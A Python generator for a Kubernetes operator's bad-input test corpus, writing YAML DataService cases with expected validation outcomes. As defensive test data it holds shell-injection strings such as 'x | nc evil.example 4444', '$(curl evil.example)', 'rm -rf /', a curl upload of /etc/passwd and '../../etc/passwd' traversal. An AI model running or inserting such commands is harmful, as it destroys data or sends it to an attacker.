"""Writes the bad-input corpus: one YAML DataService per case, each the seed's sample with one change and a
header saying what must happen to it:

    # expect: rejected: <substring of the kube-apiserver's message>     (admission refuses it)
    # expect: invalid-spec: <substring of the core's message>            (admitted; Ready=False InvalidSpec)
    # expect: accepted                                                  (admitted and valid: inert data)
    # expect: ready                                                     (the valid sample of the operator run)
    # expect: known-gap: <what goes wrong>     (admitted and valid for the core, but a child is then refused
                                               by the apiserver: reported to the core, pinned here so a fix
                                               shows up as a failure to re-label)

The YAML files are the corpus (tests/integration/test_corpus.py reads them, never this script); this script
only saves typing them. Run ``python tests/corpus/generate.py`` after changing a case here.
"""

from __future__ import annotations

import copy
import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

import yaml

HERE = Path(__file__).resolve().parent
SAMPLE = HERE.parents[1] / "examples" / "dataservice-sample.yaml"
Spec = dict[str, Any]
INJECTIONS = {
    "semicolon": "x; rm -rf /",
    "pipe": "x | nc evil.example 4444",
    "subshell": "$(rm -rf /)",
    "backticks": "`id`",
    "redirect": "x > /etc/passwd",
    "newline": "x\nrm -rf /",
    "and": "x && reboot",
}


def _set(path: str, value: Any) -> Callable[[Spec], None]:
    def apply(spec: Spec) -> None:
        *head, last = path.split(".")
        node = spec
        for part in head:
            if node.get(part) is None:
                node[part] = {}
            node = node[part]
        node[last] = value

    return apply


def _all(*changes: Callable[[Spec], None]) -> Callable[[Spec], None]:
    def apply(spec: Spec) -> None:
        for c in changes:
            c(spec)

    return apply


def _drop(path: str) -> Callable[[Spec], None]:
    def apply(spec: Spec) -> None:
        *head, last = path.split(".")
        node = spec
        for part in head:
            node = node[part]
        del node[last]

    return apply


MS = "api-manager"
CASES: list[tuple[str, str, Callable[[Spec], None] | None, str]] = []
"""(file stem, what it tries, change of the spec, expectation line)."""


def case(stem: str, what: str, change: Callable[[Spec], None] | None, expect: str) -> None:
    CASES.append((stem, what, change, expect))


# -- wrong types -------------------------------------------------------------------------------------------
case("type-kind-string", "kind as a string", _set("mysql.kind", "1"), "rejected: spec.mysql.kind: expected numeric")
case("type-kind-float", "kind as a float", _set("mysql.kind", 1.5), "rejected: spec.mysql.kind: Invalid value")
case("type-port-string", "port as a string", _set(f"{MS}.port", "9085"), "rejected: spec.api-manager.port")
case("type-replica-bool", "replica as a boolean", _set("auth.replica", True), "rejected: spec.auth.replica")
case("type-env-list", "env as a list", _set(f"{MS}.env", ["a=b"]), "rejected: spec.api-manager.env")
case("type-env-value-int", "an env value as a number", _set(f"{MS}.env", {"X": 1}), "rejected: spec.api-manager.env.X")
case("type-name-int", "a name as a number", _set("auth.name", 123), "rejected: spec.auth.name")
case(
    "type-thirdparty-string",
    "thirdParty as a string",
    _set("uuc.thirdParty", "curl x"),
    "rejected: spec.uuc.thirdParty",
)
case("type-dependson-string", "dependsOn as a string", _set("auth.dependsOn", "mysql"), "rejected: spec.auth.dependsOn")
case("type-nodeport-string", "nodePort as a string", _set("web.nodePort", "30180"), "rejected: spec.web.nodePort")
case("type-spec-list", "spec as a list", None, "rejected: .spec: expected map")
# -- nulls where objects belong ----------------------------------------------------------------------------
case("null-mysql", "a component null", _set("mysql", None), "rejected: spec.mysql")
case("null-spec", "spec null", None, "rejected: spec")
case("null-name", "a required name null", _set("auth.name", None), "rejected: spec.auth.name")
case(
    "null-uuc-thirdparty",
    "kind 3 with thirdParty null",
    _set("uuc.thirdParty", None),
    "rejected: kind 3 (thirdParty) needs thirdParty.url",
)
case("missing-component", "a component left out", _drop("proxy"), "rejected: spec.proxy: Required value")
case("missing-image", "a microservice without image", _drop("auth.image"), "rejected: spec.auth.image: Required value")
# -- out of range and negative -----------------------------------------------------------------------------
case("range-kind-5", "kind 5", _set("mysql.kind", 5), "rejected: spec.mysql.kind must be one of 0 (Deployment)")
case("range-kind-negative", "kind -1", _set("eureka.kind", -1), "rejected: spec.eureka.kind must be one of")
case("range-port-0", "port 0", _set(f"{MS}.port", 0), "rejected: spec.api-manager.port: Invalid value: 0")
case("range-port-65536", "port 65536", _set(f"{MS}.port", 65536), "rejected: spec.api-manager.port")
case("range-port-negative", "port -80", _set("auth.port", -80), "rejected: spec.auth.port")
case("range-replica-negative", "replica -1", _set("auth.replica", -1), "rejected: spec.auth.replica")
case("range-replica-huge", "replica 1001", _set("auth.replica", 1001), "rejected: spec.auth.replica")
case("range-replica-overflow", "replica beyond int64", _set("auth.replica", 10**20), "rejected: spec.auth.replica")
case(
    "range-nodeport-80",
    "nodePort 80",
    _set("web.nodePort", 80),
    "rejected: spec.web.nodePort must be from 30000 to 32767",
)
case("range-nodeport-32768", "nodePort 32768", _set("web.nodePort", 32768), "rejected: must be from 30000 to 32767")
case("range-nodeport-negative", "nodePort -30180", _set("proxy.nodePort", -30180), "rejected: spec.proxy.nodePort")
case(
    "range-check-timeout-0",
    "check timeout 0",
    _set("uuc.thirdParty.check", {"http": {"url": "https://x.example", "timeoutSeconds": 0}}),
    "rejected: timeoutSeconds",
)
case(
    "range-check-timeout-301",
    "check timeout 301",
    _set("uuc.thirdParty.check", {"tcp": {"host": "x.example", "port": 80, "timeoutSeconds": 301}}),
    "rejected: timeoutSeconds",
)
case(
    "range-tcp-port-0",
    "tcp check port 0",
    _set("uuc.thirdParty.check", {"tcp": {"host": "x", "port": 0}}),
    "rejected: spec.uuc.thirdParty.check.tcp.port",
)
# -- huge strings and maps ---------------------------------------------------------------------------------
case("huge-name-64", "a 64-character name", _set("auth.name", "a" * 64), "rejected: spec.auth.name: Too long")
case("huge-image", "a 513-character image", _set("auth.image", "r/" + "a" * 511), "rejected: spec.auth.image: Too long")
case("huge-env-value", "a 32769-character env value", _set(f"{MS}.env", {"BIG": "x" * 32769}), "rejected: Too long")
case(
    "huge-env-map",
    "129 env variables",
    _set(f"{MS}.env", {f"V{i}": "x" for i in range(129)}),
    "rejected: spec.api-manager.env: Too many",
)
case(
    "huge-env-key",
    "a 254-character env name",
    _set(f"{MS}.env", {"K" * 254: "x"}),
    "rejected: keys may have at most 253 characters",
)
case(
    "huge-checkcmd",
    "a 2049-character checkCMD",
    _set("uuc.thirdParty.checkCMD", "curl https://x/" + "a" * 2034),
    "rejected: spec.uuc.thirdParty.checkCMD: Too long",
)
case(
    "huge-files-map",
    "33 files",
    _set("trd-adapter.files", {f"f{i}.py": "" for i in range(33)}),
    "rejected: spec.trd-adapter.files: Too many",
)
case(
    "huge-statefulset-name",
    "a 60-character StatefulSet name",
    _set("mysql.name", "m" * 60),
    "rejected: spec.mysql.name: a StatefulSet name may have at most 52 characters",
)
# -- unicode and uppercase ---------------------------------------------------------------------------------
case("name-uppercase", "an uppercase name", _set("auth.name", "Auth"), "rejected: spec.auth.name in body should match")
case("name-chinese", "a Chinese name", _set("auth.name", "认证"), "rejected: spec.auth.name in body should match")
case(
    "name-homoglyph", "a Cyrillic homoglyph", _set("auth.name", "аuth"), "rejected: spec.auth.name in body should match"
)
case("name-trailing-dash", "a name ending in '-'", _set("auth.name", "auth-"), "rejected: should match")
case("name-leading-digit", "a name starting with a digit", _set("auth.name", "1auth"), "rejected: should match")
case("metadata-name-uppercase", "metadata.name uppercase", None, "rejected: metadata.name: Invalid value")
case("env-key-unicode", "a Chinese env name", _set(f"{MS}.env", {"变量": "x"}), "rejected: keys must match")
case("env-value-unicode", "a Chinese env value", _set(f"{MS}.env", {"WRITER": "作者 🚀"}), "accepted")
# -- duplicates --------------------------------------------------------------------------------------------
case(
    "dup-names",
    "two components with one name",
    _set("auth.name", "api-manager"),
    "rejected: component names must be unique",
)
case("dup-nodeports", "two equal nodePorts", _set("proxy.nodePort", 30180), "rejected: nodePort values must be unique")
case(
    "dup-derived-name",
    "a name equal to another's derived ConfigMap",
    _set("web.name", "trd-adapter-py"),
    "invalid-spec: names must be unique within the resource",
)
case("dup-yaml-key", "the same key twice in the YAML", None, 'rejected: key "auth" already set in map')
case(
    "dup-dependson",
    "the same dependency twice",
    _set("auth.dependsOn", ["mysql", "mysql"]),
    "rejected: dependsOn: each component may be listed once",
)
# -- unknown keys ------------------------------------------------------------------------------------------
case("unknown-spec-key", "an unknown component", _set("redis", {"name": "redis", "kind": 0}), "rejected: redis")
case("unknown-mysql-replicas", "a typo (replicas)", _set("mysql.replicas", 2), "rejected: replicas")
case("unknown-thirdparty-command", "thirdParty.command", _set("uuc.thirdParty.command", "id"), "rejected: command")
case("unknown-envs", "envs for env", _set(f"{MS}.envs", {"A": "b"}), "rejected: envs")
case(
    "unknown-securitycontext",
    "a privileged securityContext",
    _set(f"{MS}.securityContext", {"privileged": True}),
    "rejected: securityContext",
)
case("unknown-command", "a container command", _set(f"{MS}.command", ["sh", "-c", "id"]), "rejected: command")
# -- dependency graph --------------------------------------------------------------------------------------
case(
    "cycle-mysql-web",
    "mysql waits for web (the chain closes)",
    _set("mysql.dependsOn", ["web"]),
    "invalid-spec: dependency cycle",
)
case(
    "cycle-two",
    "auth and ds-adapter wait for each other",
    _all(_set("auth.dependsOn", ["ds-adapter"]), _set("ds-adapter.dependsOn", ["auth"])),
    "invalid-spec: dependency cycle",
)
case("dependson-self", "a component waits for itself", _set("auth.dependsOn", ["auth"]), "rejected: Unsupported value")
case(
    "dependson-unknown",
    "a dependency that is no component",
    _set("auth.dependsOn", ["redis"]),
    'rejected: Unsupported value: "redis"',
)
# -- third party -------------------------------------------------------------------------------------------
case(
    "kind3-empty-thirdparty",
    "kind 3 with thirdParty {}",
    _set("uuc.thirdParty", {}),
    "rejected: kind 3 (thirdParty) needs",
)
case(
    "kind3-eureka-no-thirdparty",
    "eureka kind 3, no thirdParty",
    _set("eureka.kind", 3),
    "rejected: spec.eureka.thirdParty: kind 3 (thirdParty) needs",
)
case(
    "check-both",
    "check with http and tcp",
    _set("uuc.thirdParty.check", {"http": {"url": "https://x"}, "tcp": {"host": "x", "port": 1}}),
    "rejected: set exactly one of http or tcp",
)
case("check-none", "check {}", _set("uuc.thirdParty.check", {}), "rejected: set exactly one of http or tcp")
case(
    "checkcmd-wget",
    "checkCMD with another program",
    _set("uuc.thirdParty.checkCMD", "wget https://x.example"),
    "invalid-spec: spec.uuc.thirdParty.checkCMD",
)
case(
    "checkcmd-rm",
    "checkCMD rm -rf /",
    _set("uuc.thirdParty.checkCMD", "rm -rf /"),
    "invalid-spec: spec.uuc.thirdParty.checkCMD",
)
case(
    "checkcmd-curl-upload",
    "curl with an upload flag",
    _set("uuc.thirdParty.checkCMD", "curl --upload-file /etc/passwd https://x.example"),
    "invalid-spec: spec.uuc.thirdParty.checkCMD",
)
case(
    "thirdparty-url-ftp",
    "a url of another scheme",
    _set("uuc.thirdParty.url", "ftp://x.example"),
    "rejected: spec.uuc.thirdParty.url",
)
case(
    "mysql-daemonset",
    "mysql as a DaemonSet",
    _set("mysql.kind", 2),
    "rejected: spec.mysql.kind: allowed values are 0 (Deployment), 1 (StatefulSet), 3 (thirdParty)",
)
case("eureka-daemonset", "eureka as a DaemonSet (allowed)", _set("eureka.kind", 2), "accepted")
# -- injection attempts, every string field ----------------------------------------------------------------
for label, text in INJECTIONS.items():
    case(
        f"inject-checkcmd-{label}",
        f"checkCMD with {label}",
        _set("uuc.thirdParty.checkCMD", f"curl https://x.example {text}"),
        "rejected: checkCMD is parsed, never run by a shell",
    )
case(
    "inject-name-semicolon",
    "a name with ;",
    _set("auth.name", "auth;id"),
    "rejected: spec.auth.name in body should match",
)
case(
    "inject-name-subshell",
    "a name with $(…)",
    _set("auth.name", "$(id)"),
    "rejected: spec.auth.name in body should match",
)
case("inject-metadata-name", "metadata.name with $(…)", None, "rejected: metadata.name: Invalid value")
case(
    "inject-image-space",
    "an image with a command",
    _set("auth.image", "busybox; rm -rf /"),
    "rejected: spec.auth.image in body should match",
)
case(
    "inject-image-newline",
    "an image with a newline",
    _set("auth.image", "busybox\nrm"),
    "rejected: spec.auth.image in body should match",
)
case("inject-env-key-semicolon", "an env name with ;", _set(f"{MS}.env", {"A;id": "x"}), "rejected: keys must match")
case("inject-env-key-subshell", "an env name with $(…)", _set(f"{MS}.env", {"$(id)": "x"}), "rejected: keys must match")
for label, text in INJECTIONS.items():
    case(f"inject-env-value-{label}", f"an env value with {label}", _set(f"{MS}.env", {"V": text}), "accepted")
case(
    "inject-files-content",
    "a file with shell",
    _set("trd-adapter.files", {"main.py": "import os; os.system('rm -rf /')"}),
    "accepted",
)
case(
    "inject-files-key-traversal",
    "a file name with ../",
    _set("trd-adapter.files", {"../../etc/passwd": "x"}),
    "rejected: keys must match",
)
case(
    "inject-tcp-host",
    "a tcp host with ;",
    _set("uuc.thirdParty.check", {"tcp": {"host": "x;id", "port": 1}}),
    "rejected: spec.uuc.thirdParty.check.tcp.host: Invalid value: \"x;id\": must be an ASCII DNS name",
)
case(
    "inject-http-url-space",
    "an http check url with a command",
    _set("uuc.thirdParty.check", {"http": {"url": "https://x.example; rm -rf /"}}),
    "rejected: spec.uuc.thirdParty.check.http.url: Invalid value: \"https://x.example; rm -rf /\": must be an absolute",
)
case(
    "inject-storage-size",
    "a claim size with ;",
    _set("mysql.storage", {"size": "1Gi;id"}),
    "rejected: spec.mysql.storage.size in body should match",
)
case(
    "inject-resources",
    "a cpu limit with $(…)",
    _set(f"{MS}.resources", {"limits": {"cpu": "$(id)"}}),
    "rejected: in body should match",
)
case(
    "inject-url-subshell",
    "a thirdParty.url with $(…)",
    _set("uuc.thirdParty.url", "$(curl evil.example)"),
    "rejected: spec.uuc.thirdParty.url",
)
case("inject-image-subshell", "an image with $(…) and ; (no blank)", _set("auth.image", "busybox$(id);x"),
     "rejected: spec.auth.image in body should match")
case(
    "gap-storageclass-injection",
    "a storageClassName with shell syntax",
    _set("mysql.storage", {"size": "1Gi", "storageClassName": "fast; rm -rf /"}),
    "rejected: storageClassName",
)
case(
    "gap-files-key-dotdot",
    "a file named ..data",
    _set("trd-adapter.files", {"..data": "x"}),
    "rejected: keys must match",
)
case(
    "gap-storage-size-negative",
    "a claim size of -1Gi",
    _set("mysql.storage", {"size": "-1Gi"}),
    "rejected: spec.mysql.storage.size",
)
# -- quantities both validators accepted and the renderer could not compute (issue 24, A4) -----------------
case(
    "range-storage-size-exa",
    "a claim size of 10E (an amount past 2^63 once the server computes it)",
    _set("mysql.storage", {"size": "10E"}),
    "rejected: spec.mysql.storage.size in body should match",
)
case(
    "range-resources-20-digits",
    "a memory request of a 20-digit number",
    _set(f"{MS}.resources", {"requests": {"memory": "99999999999999999999"}}),
    "rejected: in body should match",
)
# -- credentials in URLs: shown in Events, status and logs, copied into ConfigMaps (issue 24, B6) -----------
case(
    "cred-url-userinfo",
    "a thirdParty.url with user:password@",
    _set("uuc.thirdParty.url", "http://admin:hunter2@uuc.example:8080/duc"),
    "rejected: spec.uuc.thirdParty.url",
)
case(
    "cred-url-bare-userinfo",
    "a scheme-less thirdParty.url with user:password@",
    _set("uuc.thirdParty.url", "admin:hunter2@db.example:3306"),
    "rejected: spec.uuc.thirdParty.url",
)
case(
    "cred-http-url-userinfo",
    "a check.http.url with user:password@",
    _set("uuc.thirdParty.check", {"http": {"url": "https://admin:hunter2@uuc.example/health"}}),
    "rejected: spec.uuc.thirdParty.check.http.url",
)
case(
    "cred-checkcmd-userinfo",
    "curl to user:password@host without a scheme",
    _set("uuc.thirdParty.checkCMD", "curl --fail user:hunter2@uuc.example/duc"),
    "invalid-spec: spec.uuc.thirdParty.checkCMD: curl URL must not carry credentials",
)
# -- secrets in a URL's query: kept in clear in every ControllerRevision (issue 24, B6) ----------------------
case(
    "cred-url-query-token",
    "a thirdParty.url with ?token=",
    _set("uuc.thirdParty.url", "https://uuc.example/duc?token=hunter2"),
    "rejected: must not carry a secret in its query (a parameter whose name holds token",
)
case(
    "cred-url-query-password-hostport",
    "a scheme-less thirdParty.url with ?password=",
    _set("uuc.thirdParty.url", "db.example:3306/duc?useSSL=false&password=hunter2"),
    "rejected: must not carry a secret in its query (a parameter whose name holds token",
)
case(
    "cred-http-url-query-signature",
    "a check.http.url with a presigned X-Amz-Signature",
    _set("uuc.thirdParty.check", {"http": {"url": "https://s3.example/o?X-Amz-Signature=hunter2"}}),
    "rejected: must not carry a secret in its query (a parameter whose name holds token",
)
case(
    "cred-checkcmd-query-token",
    "curl to a URL with #access_token=",
    _set("uuc.thirdParty.checkCMD", "curl --fail https://uuc.example/duc#access_token=hunter2"),
    "rejected: must not carry a secret in its query (a parameter whose name holds token",
)
# -- check addresses that crashed the parser or the probe (issue 12, findings 2 and 3) --------------------
case(
    "addr-checkcmd-bracket-host",
    "curl to http://[zz]/ (urlsplit raised ValueError)",
    _set("uuc.thirdParty", {"checkCMD": "curl http://[zz]/"}),
    "invalid-spec: spec.uuc.thirdParty.checkCMD: curl URL 'http://[zz]/' is not a valid URL",
)
case(
    "addr-url-bracket-host",
    "thirdParty.url http://[zz]/",
    _set("uuc.thirdParty", {"url": "http://[zz]/"}),
    "rejected: spec.uuc.thirdParty.url",
)
case(
    "addr-check-http-bracket-host",
    "check.http.url http://[zz]/",
    _set("uuc.thirdParty", {"check": {"http": {"url": "http://[zz]/"}}}),
    "rejected: spec.uuc.thirdParty.check.http.url",
)
case(
    "addr-checkcmd-port-0",
    "curl to port 0 without a url (resolve raised CheckError)",
    _set("uuc.thirdParty", {"checkCMD": "curl http://h:0/"}),
    "invalid-spec: spec.uuc.thirdParty.checkCMD: curl URL port must be a number from 1 to 65535, got 0",
)
case(
    "addr-checkcmd-fullwidth-host",
    "curl to a host in full-width letters (the probe raised InvalidURL)",
    _set("uuc.thirdParty", {"checkCMD": "curl --head --fail http://ｅｘａｍｐｌｅ.com/"}),
    "invalid-spec: spec.uuc.thirdParty.checkCMD: curl URL must be ASCII",
)
case(
    "addr-nc-empty-label",
    "nc to a non-ASCII host with an empty label (the probe raised IDNAError)",
    _set("uuc.thirdParty", {"checkCMD": "nc -z ä..b 3306"}),
    "invalid-spec: spec.uuc.thirdParty.checkCMD: nc host 'ä..b' must be ASCII",
)
case(
    "addr-url-empty-label",
    "thirdParty.url ä..b:80",
    _set("uuc.thirdParty", {"url": "ä..b:80"}),
    "rejected: spec.uuc.thirdParty.url",
)
case(
    "addr-tcp-empty-label",
    "check.tcp.host a..b",
    _set("uuc.thirdParty", {"check": {"tcp": {"host": "a..b", "port": 80}}}),
    "rejected: spec.uuc.thirdParty.check.tcp.host",
)
case(
    "addr-url-port-65536",
    "thirdParty.url with port 65536",
    _set("uuc.thirdParty", {"url": "http://x.example:65536/"}),
    "rejected: spec.uuc.thirdParty.url",
)
case(
    "addr-checkcmd-idna-ascii",
    "curl to an internationalised host in its xn-- form (valid)",
    _set("uuc.thirdParty", {"checkCMD": "curl --head --fail http://xn--bcher-kva.example/"}),
    "accepted",
)
# -- offline and admission give one verdict (issue 12, finding 8) ------------------------------------------
case("type-insecure-string", "check.http.insecure as a string", _set(
    "uuc.thirdParty", {"check": {"http": {"url": "https://x.example", "insecure": "true"}}}),
    "rejected: spec.uuc.thirdParty.check.http.insecure")
case("metadata-name-64", "a 64-character metadata.name", None, "rejected: metadata.name must be a DNS label")
case("metadata-name-dot", "a metadata.name with a dot", None, "rejected: metadata.name must be a DNS label")
case(
    "mysql-deployment-replica-1000",
    "mysql as a Deployment with 1000 pods on one ReadWriteOnce claim",
    _all(_set("mysql.kind", 0), _set("mysql.replica", 1000)),
    "rejected: spec.mysql.replica: at most 1 with kind 0 (Deployment)",
)
case(
    "mysql-deployment-replica-2",
    "mysql as a Deployment with 2 pods on one claim",
    _all(_set("mysql.kind", 0), _set("mysql.replica", 2)),
    "rejected: spec.mysql.replica: at most 1 with kind 0 (Deployment)",
)
case(
    "mysql-statefulset-replica-3",
    "mysql as a StatefulSet of 3 (a claim per pod)",
    _set("mysql.replica", 3),
    "accepted",
)
case(
    "env-operator-mysql-password",
    "mysql env repeats MYSQL_PASSWORD, which the operator sets",
    _set("mysql.env", {"MYSQL_PASSWORD": "x"}),
    "rejected: spec.mysql.env: these names are set by the operator itself",
)
case(
    "env-operator-datasource-password",
    "a microservice env repeats SPRING_DATASOURCE_PASSWORD",
    _set(f"{MS}.env", {"SPRING_DATASOURCE_PASSWORD": "x"}),
    "rejected: spec.api-manager.env: these names are set by the operator itself",
)
case(
    "huge-files-total",
    "files over 256 KiB in all (UTF-8: 87,382 three-byte characters)",
    _set("trd-adapter.files", {"main.py": "中" * 87382}),
    "rejected: files may hold at most 262144 bytes",
)
case(
    "ready-injections-inert",
    "every free string field carries shell syntax: the valid sample, Ready",
    _all(
        *[_set(f"{k}.env", {f"V_{n.upper()}": t for n, t in INJECTIONS.items()}) for k in (MS, "auth", "web")],
        _set("trd-adapter.files", {"main.py": "import os\nos.system('$(rm -rf /) `id` | nc x 1 > /x; reboot')\n"}),
        _set("eureka.env", {"JAVA_OPTS": "-Dx=$(id);`id`"}),
    ),
    "ready",
)


RAW: dict[str, Callable[[str], str]] = {
    "type-spec-list": lambda t: re.sub(r"(?s)\nspec:\n.*", "\nspec: []\n", t),
    "null-spec": lambda t: re.sub(r"(?s)\nspec:\n.*", "\nspec: null\n", t),
    "metadata-name-uppercase": lambda t: t.replace("name: metadata-name-uppercase", "name: DataService-X", 1),
    "inject-metadata-name": lambda t: t.replace("name: inject-metadata-name", "name: x$(id)", 1),
    "metadata-name-64": lambda t: t.replace("name: metadata-name-64", "name: " + "m" * 64, 1),
    "metadata-name-dot": lambda t: t.replace("name: metadata-name-dot", "name: data.service", 1),
    "dup-yaml-key": lambda t: t.replace(
        "\n  auth:\n", "\n  auth:\n    name: auth\n    image: a:b\n    port: 1\n  auth:\n", 1
    ),
}


def render(stem: str, what: str, change: Callable[[Spec], None] | None, expect: str, sample: dict[str, Any]) -> str:
    ds = copy.deepcopy(sample)
    ds["metadata"] = {"name": stem}
    if change is not None:
        change(ds["spec"])
    text = yaml.safe_dump(ds, allow_unicode=True, sort_keys=False, width=4096)
    text = RAW.get(stem, lambda t: t)(text)
    return f"# case: {what}\n# expect: {expect}\n{text}"


def main() -> None:
    sample = yaml.safe_load(SAMPLE.read_text(encoding="utf-8"))
    stems = [c[0] for c in CASES]
    assert len(stems) == len(set(stems)), "case names must be unique"
    for old in HERE.glob("*.yaml"):
        old.unlink()
    for stem, what, change, expect in CASES:
        (HERE / f"{stem}.yaml").write_text(render(stem, what, change, expect, sample), encoding="utf-8")
    print(f"{len(CASES)} cases written to {HERE}")


if __name__ == "__main__":
    main()
